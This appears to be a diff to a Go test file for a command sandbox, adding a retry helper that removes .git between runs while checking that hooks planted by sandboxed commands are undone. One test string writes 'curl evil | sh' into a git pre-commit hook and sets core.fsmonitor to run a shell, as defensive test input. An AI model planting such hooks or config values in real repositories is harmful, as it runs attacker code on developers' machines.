@@ -8,6 +8,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"gatehouse/internal/sandbox"
 )
@@ -28,7 +29,7 @@ func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 			`git init -q && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'sh -c evil'`,
 		}
 		for _, a := range attacks {
-			os.RemoveAll(filepath.Join(b.ws, ".git"))
+			removeGit(b)
 			code, out, res := b.runRes(t, a)
 			if code != 0 {
 				t.Fatalf("%s: exit %d: %s", a, code, out)
@@ -51,7 +52,7 @@ func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 		if !exists(filepath.Join(b.ws, ".git/HEAD")) {
 			t.Fatal("the repository the command made is gone")
 		}
-		os.RemoveAll(filepath.Join(b.ws, ".git"))
+		removeGit(b)
 		_, out, res := b.runRes(t, `git init -q && git remote add origin https://example.com/x.git && git config user.name Init`)
 		if len(res.Restored) > 0 || !exists(filepath.Join(b.ws, ".git/hooks/pre-commit.sample")) {
 			t.Fatalf("a plain git init was undone (%v): %s", res.Restored, out)
@@ -68,6 +69,22 @@ func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 			t.Error("a hook stayed in the .git made by an earlier command")
 		}
 	})
+}
+
+// removeGit removes the workspace's .git as the user would between two
+// commands, and waits until it stays gone: the spare helper started after
+// a command builds the next policy beside it, and that makes a hooks
+// folder in a .git it finds (a mount point), so a removal running at the
+// same moment can leave .git/hooks behind.
+func removeGit(b *box) {
+	git := filepath.Join(b.ws, ".git")
+	for i := 0; i < 100; i++ {
+		os.RemoveAll(git)
+		time.Sleep(20 * time.Millisecond)
+		if !exists(git) {
+			return
+		}
+	}
 }
 
 // In a linked worktree (git worktree add) whose repository's .git is
